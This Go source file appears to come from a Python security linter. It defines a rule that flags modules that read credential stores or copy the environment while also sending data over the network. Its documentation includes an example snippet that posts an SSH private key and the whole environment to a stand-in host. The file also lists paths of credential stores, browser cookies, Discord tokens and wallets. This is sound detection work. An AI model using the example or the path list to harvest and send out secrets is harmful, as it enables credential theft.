package supplychain

import (
	"strconv"
	"strings"

	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
	"github.com/kraitsec/krait/internal/python/semantic"
)

// CredentialExfiltration flags reads of credential stores, or copies of the
// whole environment, in a module that also sends data over the network.
var CredentialExfiltration = &analysis.Rule{
	Code:       "KR818",
	Name:       "credential-harvest-and-send",
	Summary:    "credential store or environment read in a module that sends",
	Severity:   analysis.SeverityHigh,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 200},
	Kinds:      []ast.Kind{ast.KindCall, ast.KindDict, ast.KindDictComp, ast.KindListComp},
	Callees: tails([]string{"read_text", "read_bytes", "iterdir", "glob", "rglob", "copy", "dict", "str", "repr",
		"dumps", "list"}, credentialReaders),
	Run: runCredentials,
	Doc: `## What it does
Flags, in a module that also sends over the network (requests, urllib,
httpx, smtplib, ...; a bare socket, as SSH and database clients use, does
not count), each access to a credential store: SSH private keys
(~/.ssh/id_*, or listing or copying the whole ~/.ssh), cloud credentials
(~/.aws/credentials or the whole ~/.aws, gcloud, Azure, kube and Docker
configs), .git-credentials, .pypirc, .netrc, browser profiles (Login Data,
Cookies, Local State, logins.json, key4.db of Chrome, Edge, Brave, Opera,
Firefox, ...), Discord and Telegram session storage, keychains and crypto
wallets; and each copy of the whole environment (dict(os.environ),
os.environ.copy(), {**os.environ}, str() or json.dumps(os.environ), a
comprehension over os.environ.items())
that ends up in what a network call sends, directly or through variables. Alone, such a read is common (SSH and cloud clients do
it; tests save and restore the environment) and is not reported: the rule
needs the network send in the same module.

## Why is this bad?
Collecting keys, tokens, cookies and environment variables and sending them
home is what most malicious packages on PyPI do; CI secrets sit in the
environment. The combination of the two in one module is the exfiltration
step itself.

## Example
~~~python
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example/k", data={"k": key, "env": dict(os.environ)})
~~~

## Use instead
Let the tools that own credentials read them (paramiko, boto3), and pass a
subprocess only the variables it needs:
~~~python
subprocess.run(cmd, env={"PATH": os.environ["PATH"]})
~~~

## References
- [MITRE ATT&CK T1552.001: Credentials In Files](https://attack.mitre.org/techniques/T1552/001/)
- [MITRE ATT&CK T1555.003: Credentials from Web Browsers](https://attack.mitre.org/techniques/T1555/003/)
- [CWE-200: Exposure of Sensitive Information](https://cwe.mitre.org/data/definitions/200.html)
`,
}

// credentialPaths are path fragments (lowercase, after a leading "/") of
// stores of keys, tokens and passwords.
var credentialPaths = []string{
	"/.ssh/id_", "/.aws/credentials", "/.config/gcloud", "/.azure/", "/.kube/config",
	"/.docker/config.json", "/.git-credentials", "/.pypirc", "/.netrc", "/login data", "/local state",
	"/web data", "/logins.json", "/key4.db", "/key3.db", "/cookies.sqlite", "/discord/local storage",
	"/discordcanary/", "/discordptb/", "/telegram desktop/tdata", "/keychains/", "login.keychain",
	"/.gnupg", "/wallet.dat", "/exodus/", "/electrum/wallets", "/.bitcoin", "/metamask",
}

// browserDirs mark a browser profile, where a file named Cookies holds sessions.
var browserDirs = []string{
	"google/chrome", "chromium", "bravesoftware", "microsoft/edge", "opera software", "mozilla/firefox",
	"yandex/yandexbrowser", "vivaldi", "/user data/",
}

// credentialReaders are the calls that read, list or copy a path given as
// their first argument.
var credentialReaders = map[string]bool{
	"builtins.open": true, "io.open": true, "codecs.open": true, "os.listdir": true, "os.walk": true,
	"os.scandir": true, "glob.glob": true, "glob.iglob": true, "shutil.copy": true, "shutil.copy2": true,
	"shutil.copyfile": true, "shutil.copytree": true, "shutil.make_archive": true, "sqlite3.connect": true,
	"pathlib.Path": true,
}

func runCredentials(p *analysis.Pass, n ast.Node) {
	send := analysis.FileFact(p, sendFact)
	if send == 0 {
		return
	}
	m := p.Model
	where := " in a module that sends data over the network (line " + strconv.Itoa(send) + ")"
	if d, ok := n.(*ast.Dict); ok {
		for i, k := range d.Keys {
			if k == nil && isEnviron(m, d.Values[i]) && isSent(p, d) {
				p.Report(d, "copies the whole environment with {**os.environ}"+where)
				return
			}
		}
		return
	}
	var gens []*ast.Comprehension
	switch x := n.(type) {
	case *ast.DictComp:
		gens = x.Generators
	case *ast.ListComp:
		gens = x.Generators
	}
	if len(gens) > 0 {
		if it := gens[0].Iter; (isEnviron(m, it) || isEnvItems(m, it)) && isSent(p, n.(ast.Expr)) {
			p.Report(n, "copies the environment with a comprehension over os.environ"+where)
		}
		return
	}
	c, ok := n.(*ast.Call)
	if !ok {
		return
	}
	if how := environCopy(m, c); how != "" {
		if isSent(p, c) {
			p.Report(c, "copies the whole environment with "+how+where)
		}
		return
	}
	qn := m.CalleeName(c)
	var target ast.Expr
	switch {
	case credentialReaders[qn]:
		target = argOr(c, 0)
	default:
		a, ok := c.Func.(*ast.Attribute)
		if !ok {
			return
		}
		switch a.Attr {
		case "read_text", "read_bytes", "iterdir", "glob", "rglob":
			target = a.Value
		default:
			return
		}
	}
	if target == nil || (qn == "builtins.open" || qn == "io.open") && openForWriting(m, c) {
		return
	}
	text := textOf(m, target)
	store := credentialStore(text)
	if store == "" && bulkReaders[qn] {
		// Listing or copying a whole ~/.ssh or ~/.aws; an SSH client reading
		// its config or known_hosts is ordinary.
		if s, ok := hasAny("/"+text, []string{"/.ssh", "/.aws"}); ok && !strings.Contains(text, "known_hosts") {
			store = strings.TrimPrefix(s, "/")
		}
	}
	if store != "" {
		p.Report(c, "reads "+store+where)
	}
}

// bulkReaders list or copy a directory.
var bulkReaders = map[string]bool{
	"os.listdir": true, "os.walk": true, "os.scandir": true, "glob.glob": true, "glob.iglob": true,
	"shutil.copytree": true, "shutil.make_archive": true,
}

// openForWriting reports whether open() is given a write or append mode.
func openForWriting(m *semantic.Model, c *ast.Call) bool {
	mode := keyword(c, "mode")
	if mode == nil {
		mode = argOr(c, 1)
	}
	s, ok := m.ConstString(mode)
	return mode != nil && ok && strings.ContainsAny(s, "wax")
}

// credentialStore returns the credential store a path names, or "".
func credentialStore(text string) string {
	text = "/" + text
	if s, ok := hasAny(text, credentialPaths); ok {
		return strings.TrimPrefix(s, "/")
	}
	if strings.HasSuffix(text, "/cookies") || strings.Contains(text, "/cookies/") || strings.Contains(text, "/network/cookies") {
		if _, ok := hasAny(text, browserDirs); ok {
			return "browser cookies"
		}
	}
	if strings.Contains(text, "discord") && (strings.Contains(text, "leveldb") || strings.Contains(text, "local storage")) {
		return "Discord tokens"
	}
	return ""
}
